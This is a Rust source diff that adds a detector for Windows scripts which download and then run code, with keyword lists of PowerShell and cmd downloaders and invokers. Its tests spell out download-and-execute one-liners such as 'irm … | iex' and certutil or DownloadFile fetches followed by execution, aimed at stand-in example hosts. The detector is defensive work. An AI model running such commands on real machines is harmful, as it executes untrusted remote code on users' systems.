@@ -98,9 +98,143 @@ pub(crate) fn destructive_commands(script: &str) -> Vec<&'static str> {
     found
 }
 
+/// PowerShell's ways to run a string as code.
+const INVOKERS: &[&str] = &["iex", "invoke-expression", "[scriptblock]::create"];
+
+/// PowerShell's and cmd.exe's downloaders (Windows PowerShell's `curl` and `wget` are
+/// aliases of `Invoke-WebRequest`).
+const DOWNLOADERS: &[&str] = &[
+    "iwr",
+    "irm",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "curl",
+    "wget",
+    "downloadstring",
+    "downloaddata",
+    "downloadfile",
+    "start-bitstransfer",
+    "bitsadmin",
+    "certutil",
+];
+
+/// The options that name the file a downloader writes.
+const DOWNLOAD_OUTPUTS: &[&str] = &["-outfile", "-o", "--output", "-destination"];
+
+/// Commands that run a file they are given (`Start-Process x.exe`, `cmd /c x.bat`).
+const FILE_RUNNERS: &[&str] = &[
+    "start-process",
+    "start",
+    "saps",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "msiexec",
+    "&",
+    ".",
+];
+
+/// Whether a Windows script runs code it downloads: a string it fetches run as code (`irm
+/// https://x/install.ps1 | iex`, `iex (New-Object Net.WebClient).DownloadString(…)`), or a file
+/// it downloads then runs (`iwr URL -OutFile x.ps1; .\x.ps1`, `curl URL -o x.bat && x.bat`).
+pub(crate) fn runs_downloaded_code(script: &str) -> bool {
+    let lower = script.to_ascii_lowercase();
+    let words: Vec<String> = lower
+        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '(' | ')' | '{' | '}' | ','))
+        .map(|w| w.trim_matches(['"', '\'']).to_string())
+        .filter(|w| !w.is_empty())
+        .collect();
+    let named = |list: &[&str]| {
+        words.iter().any(|w| {
+            list.iter().any(|n| {
+                w == n || w.ends_with(&format!(".{n}")) || w.strip_suffix(".exe") == Some(n)
+            })
+        })
+    };
+    if !named(DOWNLOADERS) {
+        return false;
+    }
+    if named(INVOKERS) || lower.contains("[scriptblock]::create") {
+        return true;
+    }
+    // The files the downloads write, then run by name in a later command.
+    let outputs: Vec<String> = words
+        .windows(2)
+        .filter(|w| DOWNLOAD_OUTPUTS.contains(&w[0].as_str()))
+        .map(|w| file_name(&w[1]))
+        .chain(
+            // `.DownloadFile('URL', 'x.exe')`: the last argument.
+            lower
+                .split("downloadfile")
+                .skip(1)
+                .filter_map(|rest| rest.split(')').next()?.rsplit(',').next().map(file_name)),
+        )
+        .chain(
+            // `certutil -urlcache -f URL FILE`, `bitsadmin /transfer j URL FILE`: the word
+            // after the URL.
+            words
+                .windows(2)
+                .filter(|w| w[0].contains("://") && !w[1].starts_with(['-', '/']))
+                .filter(|_| named(&["certutil", "bitsadmin"]))
+                .map(|w| file_name(&w[1])),
+        )
+        .filter(|f| !f.is_empty())
+        .collect();
+    if outputs.is_empty() {
+        return false;
+    }
+    lower
+        .split([';', '&', '|', '\n', '\r'])
+        .filter_map(|part| {
+            let mut words = part.split_whitespace().map(file_name);
+            let first = words.next()?;
+            match FILE_RUNNERS.contains(&first.as_str()) || first.is_empty() {
+                true => words.find(|w| !w.starts_with(['-', '/']) && !w.is_empty()),
+                false => Some(first),
+            }
+        })
+        .any(|run| outputs.contains(&run))
+}
+
+/// A path's file name, lower case, without quotes and `.\`: what runs it by name.
+fn file_name(word: &str) -> String {
+    let w = word.trim().trim_matches(['"', '\'', ' ']);
+    w.rsplit(['\\', '/'])
+        .next()
+        .unwrap_or(w)
+        .to_ascii_lowercase()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn downloaded_code_run() {
+        for script in [
+            "irm https://get.example/install.ps1 | iex",
+            "iex (iwr https://x.example/a.ps1 -UseBasicParsing).Content",
+            "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
+            "Invoke-Expression (Invoke-RestMethod https://x.example/a)",
+            "& ([scriptblock]::Create((iwr https://x.example/a).Content))",
+            "iwr https://x.example/a.ps1 -OutFile a.ps1; .\\a.ps1",
+            "Invoke-WebRequest -Uri https://x.example/s.exe -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe",
+            "curl https://x.example/x.bat -o x.bat && x.bat",
+            "(New-Object Net.WebClient).DownloadFile('https://x.example/s.exe', 's.exe'); .\\s.exe",
+            "certutil -urlcache -f https://x.example/s.exe s.exe & s.exe",
+        ] {
+            assert!(runs_downloaded_code(script), "{script}");
+        }
+        for script in [
+            "iwr https://x.example/data.json -OutFile data.json; Get-Content data.json",
+            "irm https://api.example/items | ConvertTo-Json",
+            "Invoke-Expression 'Get-Date'",
+            "curl https://x.example/a -o a.txt && type a.txt",
+            "Get-ChildItem | Select-String iex",
+        ] {
+            assert!(!runs_downloaded_code(script), "{script}");
+        }
+    }
 
     #[test]
     fn windows_trees_disks_and_power() {
